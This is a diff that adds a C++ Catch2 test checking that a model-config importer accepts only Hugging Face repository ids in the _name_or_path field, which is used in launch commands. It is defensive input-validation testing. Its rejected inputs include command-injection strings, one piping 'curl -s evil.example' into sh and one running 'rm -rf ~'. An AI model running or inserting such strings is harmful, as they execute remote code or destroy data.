@@ -3,6 +3,8 @@
 // entry the researchers wrote from the same file; a bare parameter count; errors.
 #include <catch2/catch.hpp>
 
+#include <nlohmann/json.hpp>
+
 #include "test_support.hpp"
 
 #include <cstdint>
@@ -369,6 +371,33 @@ TEST_CASE("import errors name the missing or bad key", "[hf_config][errors]") {
       "odd"));
   REQUIRE_FALSE(r.ok());
   CHECK(test::all_errors(r.errors).find("num_kv_heads") != std::string::npos);
+}
+
+// Issue 32: _name_or_path goes into launch commands. "owner/name" must be a repository id; a
+// local path or a bare name names no repository (the command then uses the model's id).
+TEST_CASE("_name_or_path: a repository id, a local path, or refused naming the field", "[hf_config][errors]") {
+  auto with_name = [](const std::string& name) {
+    nlohmann::json j = nlohmann::json::parse(kQwen25_7b);
+    j["_name_or_path"] = name;
+    return import_hf_config(j.dump(), "custom");
+  };
+  for (const char* bad : {"meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #", "a/b\nrm -rf ~", "a/b/c",
+                          "owner/na me", "o--wner/x", "x/y'z"}) {
+    const Result<ImportedModel> r = with_name(bad);
+    INFO(bad);
+    REQUIRE_FALSE(r.ok());
+    CHECK(r.errors.at(0).field == "config.json: _name_or_path");
+    CHECK(en(r.errors[0].message).find("must be a Hugging Face repository id") != std::string::npos);
+  }
+  const Result<ImportedModel> repo = with_name("Qwen/Qwen2.5-7B-Instruct");
+  REQUIRE(repo.ok());
+  CHECK(repo.value->model.hf_repo == "Qwen/Qwen2.5-7B-Instruct");
+  for (const char* local : {"/root/autodl-tmp/Qwen2.5-7B", "./models/q", "~/m/q", "C:\\models\\q", "Qwen2.5-7B"}) {
+    const Result<ImportedModel> r = with_name(local);
+    INFO(local);
+    REQUIRE(r.ok());
+    CHECK(r.value->model.hf_repo.empty());
+  }
 }
 
 TEST_CASE("a bare parameter count gives an assumed Llama-like model", "[hf_config]") {
